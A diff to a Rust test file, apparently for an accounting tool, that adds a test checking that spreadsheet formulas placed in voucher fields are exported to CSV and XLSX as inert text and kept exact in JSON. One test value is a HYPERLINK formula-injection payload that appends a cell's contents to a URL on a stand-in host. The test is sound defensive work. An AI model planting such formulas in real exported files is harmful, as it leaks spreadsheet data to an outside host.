@@ -155,6 +155,47 @@ fn csv_output_opens_in_excel_with_chinese_headers_and_table_amounts() {
     assert!(raw.contains(",800000.00,") && !raw.contains("800,000.00"), "{raw}");
 }
 
+/// A summary or settlement number that a spreadsheet would run as a formula — put in a voucher
+/// by anyone who can make one — is exported to CSV as text, and kept exactly everywhere else.
+#[test]
+fn a_formula_in_a_voucher_is_text_in_the_csv_and_exact_elsewhere() {
+    let env = Env::jingmen();
+    let formula = r#"=HYPERLINK("http://example.invalid/?"&A1,"点击")"#;
+    let file = env.write(
+        "formula.csv",
+        &format!(
+            "voucher,book,date,account,summary,debit,credit,external_id,attachments,ref\n\
+             x1,shayang/employee,2023-01-31,5001.02,\"{}\",10.00,,,0,@SUM(1+1)\n\
+             x1,shayang/employee,2023-01-31,1003,-2+3 支付,,10.00,,,\n",
+            formula.replace('"', "\"\"")
+        ),
+    );
+    env.ok(&["import", &file, "--post", "--reviewer", REVIEWER]);
+    let csv = env.ok(&["--format", "csv", "--raw-amounts", "journal", "--book", "shayang/employee"]);
+    let rows: Vec<&str> = csv.lines().collect();
+    assert_eq!(
+        rows[1],
+        format!(
+            "2023-01-31,记-2023-01-0001,已记账,\"'{}\",5001.02,社会保险待遇支出—住院统筹,10.00,,'@SUM(1+1)",
+            formula.replace('"', "\"\"")
+        ),
+    );
+    assert_eq!(rows[2], ",,,'-2+3 支付,1003,支出户存款,,10.00,");
+    let json = env.ok(&["--format", "json", "journal", "--book", "shayang/employee"]);
+    let parsed: serde_json::Value = serde_json::from_str(&json).unwrap();
+    let lines = &parsed["vouchers"][0]["lines"];
+    assert_eq!(lines[0]["summary"], formula, "{json}");
+    assert_eq!(lines[0]["ref"], "@SUM(1+1)", "{json}");
+    // The spreadsheet holds the text as a string cell, not a formula.
+    let out = env.path("序时账.xlsx").display().to_string();
+    env.ok(&["--format", "xlsx", "journal", "--book", "shayang/employee", "--output", &out]);
+    assert!(sheet_rows(std::path::Path::new(&out)).iter().any(|row| row.iter().any(|cell| cell == formula)));
+    use calamine::Reader;
+    let mut book: calamine::Xlsx<_> = calamine::open_workbook(&out).unwrap();
+    let formulas = book.worksheet_formula(&book.sheet_names()[0].clone()).unwrap();
+    assert!(formulas.cells().all(|(_, _, f)| f.is_empty()), "no cell is a formula");
+}
+
 fn number(cell: &str) -> i64 {
     // Cells hold doubles: back to 分 by rounding to the nearest 分.
     (cell.parse::<f64>().unwrap() * 100.0).round() as i64
